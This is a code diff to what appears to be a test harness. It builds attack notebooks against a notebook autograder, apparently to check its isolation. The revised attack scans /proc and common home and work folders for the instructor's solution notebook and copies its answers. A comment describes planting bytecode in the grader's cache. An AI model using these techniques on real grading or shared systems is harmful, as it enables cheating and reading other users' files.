@@ -8,6 +8,7 @@ An attack that *works* changes a score: each one only sets answers (or writes fi
 reaches something it must not.
 """
 import json
+import re
 from pathlib import Path
 
 HERE = Path(__file__).parent
@@ -36,31 +37,44 @@ ATTACKS = {
         "    print('no module:', type(err).__name__)\n"]),
     # 2. reading what is not the student's: the instructor notebook, classmates' files
     "reads_others": ("blank", [
-        "import os, glob, re\n"
-        "found = []\n"
+        "import os, time\n"
+        "places = [os.path.expanduser('~'), '/work', '/root', '/home', '/srv']\n"
+        "pid, chain = os.getppid(), []\n"
+        "while pid > 1 and len(chain) < 10:\n"
+        "    try:\n"
+        "        chain.append(os.readlink(f'/proc/{pid}/cwd'))\n"
+        "        pid = int(open(f'/proc/{pid}/stat').read().rsplit(')', 1)[1].split()[1])\n"
+        "    except (OSError, ValueError, IndexError):\n"
+        "        break\n"
         "for pid in os.listdir('/proc'):\n"
-        "    if not pid.isdigit():\n"
+        "    if not pid.isdigit() or int(pid) == os.getpid():\n"
         "        continue\n"
         "    try:\n"
         "        cmd = open(f'/proc/{pid}/cmdline', 'rb').read().decode(errors='replace').split('\\0')\n"
-        "        cwd = os.readlink(f'/proc/{pid}/cwd')\n"
+        "        places.insert(0, os.readlink(f'/proc/{pid}/cwd'))\n"
         "    except OSError:\n"
         "        continue\n"
-        "    found += [a for a in cmd if a.endswith('.ipynb')]\n"
-        "    found += glob.glob(os.path.join(cwd, '**', '*.ipynb'), recursive=True)[:50]\n"
-        "for root in ('/work', '/root', '/home', '/srv', '/mnt', os.path.expanduser('~')):\n"
-        "    found += glob.glob(os.path.join(root, '**', 'instructor.ipynb'), recursive=True)[:5]\n"
-        "    found += glob.glob(os.path.join(root, '**', 'submissions', '*.ipynb'), recursive=True)[:5]\n"
-        "stolen = None\n"
-        "for path in found:\n"
-        "    try:\n"
-        "        text = open(path, encoding='utf-8').read()\n"
-        "    except OSError:\n"
-        "        continue\n"
-        "    if 'BEGIN SOLUTION' in text or 'answer_count = len' in text:\n"
-        "        stolen = path\n"
+        "    places[:0] = [a if os.path.isdir(a) else os.path.dirname(a) for a in cmd if a.startswith('/')]\n"
+        "places[:0] = chain  # the grader's own folders first\n"
+        "deadline, stolen, seen = time.time() + 4, None, set()\n"
+        "for place in places:\n"
+        "    for folder, dirs, files in os.walk(place):\n"
+        "        dirs[:] = [d for d in dirs if not d.startswith('.') and folder.count('/') < 8]\n"
+        "        for name in files:\n"
+        "            path = os.path.join(folder, name)\n"
+        "            if name.endswith('.ipynb') and path not in seen:\n"
+        "                seen.add(path)\n"
+        "                try:\n"
+        "                    text = open(path, encoding='utf-8').read()\n"
+        "                except (OSError, UnicodeDecodeError):\n"
+        "                    continue\n"
+        "                if 'answer_count = len(customers)' in text:\n"
+        "                    stolen = stolen or path\n"
+        "        if stolen or time.time() > deadline:\n"
+        "            break\n"
+        "    if stolen or time.time() > deadline:\n"
         "        break\n"
-        "print('stolen from', stolen)\n"
+        "print('stolen from', stolen, 'after looking at', len(seen), 'notebooks')\n"
         "if stolen:\n" + "".join("    " + line + "\n" for line in SOLVE.splitlines())]),
     # 3. code execution in the grader process: bytecode planted in the grader's __pycache__
     "plants_bytecode": ("wrong", [
@@ -286,6 +300,10 @@ def build(name: str, base: str, cells: list[str]) -> dict:
     extra = [{"cell_type": "code", "execution_count": None, "id": f"attack-{i}", "metadata": {},
               "outputs": [], "source": src} for i, src in enumerate(cells)]
     nb["cells"][2:2] = extra
+    if base == "blank":  # the attack answers above; the placeholders must not undo it
+        for cell in nb["cells"]:
+            source = "".join(cell["source"]) if isinstance(cell["source"], list) else cell["source"]
+            cell["source"] = re.sub(r"(?m)^(answer_\w+) = \.\.\.$", r"\1 = globals().get('\1', ...)", source)
     if name in META:
         nb["metadata"]["labkit"] = META[name]
     return nb
